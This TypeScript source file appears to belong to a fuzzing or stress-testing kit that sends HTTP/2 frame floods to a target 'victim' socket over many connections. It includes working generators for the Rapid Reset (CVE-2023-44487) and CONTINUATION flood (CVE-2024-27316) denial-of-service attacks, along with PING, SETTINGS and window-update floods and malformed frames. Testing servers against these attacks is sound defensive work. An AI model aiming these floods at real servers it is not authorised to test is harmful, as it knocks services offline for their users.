import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { callHead, END_HEADERS, frame, PREFACE } from '../http2.js';
import type { Victim } from '../kit.js';
import { type Dice, type Surface, within } from './surface.js';

const [DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION] = [
  0, 1, 2, 3, 4, 6, 8, 9,
] as const;
/** Connections of a batch. */
const CONNECTIONS = 20;

const CALL = callHead('/');

/** One client's frames; `inputs` counts them. */
interface Storm {
  readonly bytes: Buffer;
  readonly inputs: number;
}

const many = (count: number, make: (index: number) => Buffer): Storm => ({
  bytes: Buffer.concat([PREFACE, ...Array.from({ length: count }, (_, index) => make(index))]),
  inputs: count,
});

const storms: Readonly<Record<string, (dice: Dice) => Storm>> = {
  'rapid reset (CVE-2023-44487)': () =>
    many(1000, (n) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, 2 * n + 1, CALL),
        frame(RST, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  'CONTINUATION without end (CVE-2024-27316)': () =>
    many(500, (n) => frame(n === 0 ? HEADERS : CONTINUATION, 0, 1, Buffer.alloc(100, 0x40))),
  'PING without reading': () => many(2000, () => frame(PING, 0, 0, Buffer.alloc(8))),
  'SETTINGS without reading': () => many(2000, () => frame(SETTINGS, 0, 0, Buffer.alloc(0))),
  'empty DATA': () => many(1000, () => frame(DATA, 0, 1, Buffer.alloc(0))),
  'window updates': () => many(500, (n) => frame(WINDOW, 0, n % 2, Buffer.from([0x7f, 0xff, 0xff, 0xff]))),
  priorities: (dice) =>
    many(1000, () =>
      frame(PRIORITY, 0, 1 + 2 * dice.below(1000), Buffer.concat([dice.bytes(4), Buffer.of(1)])),
    ),
  'open calls': () => many(500, (n) => frame(HEADERS, END_HEADERS, 2 * n + 1, CALL)),
  'random frames': (dice) =>
    many(50, () =>
      frame(dice.below(12), dice.below(256), dice.below(8), dice.bytes(dice.below(40)), dice.below(50)),
    ),
  'changed calls': (dice) => {
    const { bytes } = many(5, (n) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, 2 * n + 1, CALL),
        frame(DATA, 1, 2 * n + 1, Buffer.alloc(5)),
      ]),
    );
    return { bytes: dice.mutate(bytes), inputs: 10 };
  },
  'random bytes': (dice) => ({ bytes: dice.bytes(dice.below(500)), inputs: 1 }),
};

/** Invalid HTTP/2, and too much valid HTTP/2. */
export const http2Surface: Surface = {
  name: 'HTTP/2',
  open: async (victim, dice) => ({
    batch: async () => {
      const sent = Array.from({ length: CONNECTIONS }, async () => {
        const storm = dice.of(Object.values(storms))(dice);
        await send(victim, storm.bytes, dice);
        return storm.inputs;
      });
      return (await Promise.all(sent)).reduce((one, other) => one + other, 0);
    },
    close: () => {},
  }),
};

async function send(victim: Victim, bytes: Buffer, dice: Dice): Promise<void> {
  const client: Socket = connect(victim.socket);
  client.on('error', () => {});
  if (dice.below(2) === 0) client.resume();
  else client.pause();
  // EAGAIN: the kernel's queue of waiting clients is full.
  await Promise.race([once(client, 'connect'), once(client, 'close')]).catch(() => {});
  await within(500, new Promise((resolve) => client.write(bytes, resolve)));
  if (dice.below(2) === 0) client.end();
  await within(dice.below(50), once(client, 'close'));
  client.destroy();
}
